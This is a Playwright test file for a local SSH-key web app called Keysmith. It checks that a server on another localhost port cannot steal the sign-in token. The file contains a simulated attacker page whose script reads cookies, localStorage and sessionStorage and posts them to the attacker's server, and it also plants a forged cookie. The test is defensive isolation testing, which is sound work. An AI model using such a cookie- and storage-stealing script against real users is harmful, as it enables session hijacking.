import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { ensureTestUser, type TestUser } from '../src/testing/sshd.ts';
import { startKeysmith, type RunningKeysmith } from './fixtures/keysmith-server.ts';
import { sshKeygen } from '../src/testing/ssh-keygen.ts';

// Another local user's web server on another port of 127.0.0.1, visited by the same browser
// that signed in to Keysmith: browsers send cookies for 127.0.0.1 to every port of it (RFC 6265
// §8.5), so whatever Keysmith kept in a cookie, that server would get.
test.describe.configure({ mode: 'serial' });

interface Recorded {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
}

/** What the attacker's page found in its own document.cookie and storage. */
interface Loot {
  cookie: string;
  local: Record<string, string>;
  session: Record<string, string>;
}

/** The attacker's page: reads everything script on its origin can see and posts it home. */
const STEAL_PAGE = `<!doctype html><title>loading</title><script>
const read = (storage) => Object.fromEntries(Object.keys(storage).map((k) => [k, storage.getItem(k)]));
const loot = { cookie: document.cookie, local: read(localStorage), session: read(sessionStorage) };
fetch('/report', { method: 'POST', body: JSON.stringify(loot) }).then(() => { document.title = 'reported'; });
</script>`;

let user: TestUser;
let keysmith: RunningKeysmith;
let attacker: Server;
let attackerOrigin: string;
const received: Recorded[] = [];
const loot: Loot[] = [];
let context: BrowserContext;
let page: Page;
const key = sshKeygen('ed25519', 'isolation-key');

function keysmithPort(): string {
  return new URL(keysmith.origin).port;
}

test.beforeAll(async ({ browser }) => {
  user = ensureTestUser('keysmith-iso');
  keysmith = await startKeysmith(user);
  // A key to list, added the way a script adds one.
  const added = await fetch(`${keysmith.origin}/api/ssh-keys`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${keysmith.token}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ publicKey: key.publicKey, name: 'isolation' }),
  });
  expect(added.status).toBe(201);

  attacker = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      received.push({
        method: request.method ?? '',
        url: request.url ?? '',
        headers: request.headers,
      });
      if (request.method === 'POST' && request.url === '/report') {
        loot.push(JSON.parse(Buffer.concat(chunks).toString('utf8')) as Loot);
        response.writeHead(204).end();
      } else if (request.url === '/plant') {
        response
          .writeHead(200, {
            'Content-Type': 'text/html; charset=utf-8',
            'Set-Cookie': `keysmith-${keysmithPort()}=whatever; Path=/`,
          })
          .end('<!doctype html><title>planted</title>');
      } else {
        response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(STEAL_PAGE);
      }
    });
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;

  context = await browser.newContext();
  page = await context.newPage();
});

test.afterAll(async () => {
  await context.close();
  attacker.closeAllConnections();
  await new Promise<void>((resolve) => attacker.close(() => resolve()));
  await keysmith.stop();
});

/** Every value the attacker's server received or its page read, each one a token candidate. */
function candidates(): string[] {
  const values = new Set<string>();
  const add = (value: string) => {
    values.add(value);
    for (const part of value.split(/[\s;,=&?#/]+/)) if (part !== '') values.add(part);
  };
  for (const request of received) {
    add(request.url);
    for (const value of Object.values(request.headers)) {
      for (const one of Array.isArray(value) ? value : [value ?? '']) add(one);
    }
  }
  for (const found of loot) {
    add(found.cookie);
    for (const value of [...Object.values(found.local), ...Object.values(found.session)]) {
      add(value);
    }
  }
  values.delete('');
  return [...values];
}

async function statusWithBearer(value: string): Promise<number> {
  const response = await fetch(`${keysmith.origin}/api/ssh-keys`, {
    headers: { Authorization: `Bearer ${value}` },
  });
  await response.body?.cancel();
  return response.status;
}

test('sign in from the printed link: the token leaves the address bar, the page lists the keys', async () => {
  await page.goto(keysmith.signInUrl);
  await expect(page).toHaveURL(`${keysmith.origin}/`);
  expect(page.url()).not.toContain(keysmith.token);
  await page.getByRole('link', { name: 'SSH Keys' }).first().click();
  await expect(page.getByText(key.fingerprint)).toBeVisible();
  await page.reload();
  await expect(page.getByText(key.fingerprint)).toBeVisible();
  expect(page.url()).toBe(`${keysmith.origin}/ssh-keys`);
  expect(await context.cookies()).toEqual([]);
});

test('a server on another port of 127.0.0.1 receives nothing that works as the token', async () => {
  const other = await context.newPage();
  await other.goto(attackerOrigin);
  await expect(other).toHaveTitle('reported');
  // The signed-in tab itself goes to the attacker's page as well.
  await page.goto(attackerOrigin);
  await expect(page).toHaveTitle('reported');

  expect(loot).toHaveLength(2);
  for (const request of received) expect(request.headers.cookie, request.url).toBeUndefined();
  for (const found of loot) {
    expect(found.cookie).toBe('');
    expect(JSON.stringify(found)).not.toContain(keysmith.token);
  }
  const values = candidates();
  expect(values.some((value) => value.includes(keysmith.token))).toBe(false);
  for (const value of values) expect(await statusWithBearer(value), value).toBe(401);
  await other.close();
});

test('a cookie of the old name planted by that server changes nothing in Keysmith', async () => {
  await page.goto(`${attackerOrigin}/plant`);
  await expect(page).toHaveTitle('planted');
  expect(await context.cookies(keysmith.origin)).toEqual([
    expect.objectContaining({ name: `keysmith-${keysmithPort()}`, value: 'whatever' }),
  ]);
  await page.goto(`${keysmith.origin}/ssh-keys`);
  await expect(page.getByText(key.fingerprint)).toBeVisible();
  await page.reload();
  await expect(page.getByText(key.fingerprint)).toBeVisible();
});

test('a new tab without the link is not signed in, and says how to sign in', async () => {
  const fresh = await context.newPage();
  for (const bookmark of ['/ssh-keys', '/']) {
    await fresh.goto(`${keysmith.origin}${bookmark}`);
    await expect(fresh.getByRole('alert')).toContainText(
      'Open the URL that "keysmith serve" printed',
    );
  }
  await expect(fresh.getByText(key.fingerprint)).toHaveCount(0);
  await fresh.close();
});

test('an older ?token= link still signs in, and leaves the address bar clean', async () => {
  const fresh = await context.newPage();
  await fresh.goto(`${keysmith.origin}/ssh-keys?token=${keysmith.token}`);
  await expect(fresh.getByText(key.fingerprint)).toBeVisible();
  expect(fresh.url()).toBe(`${keysmith.origin}/ssh-keys`);
  await fresh.close();
});
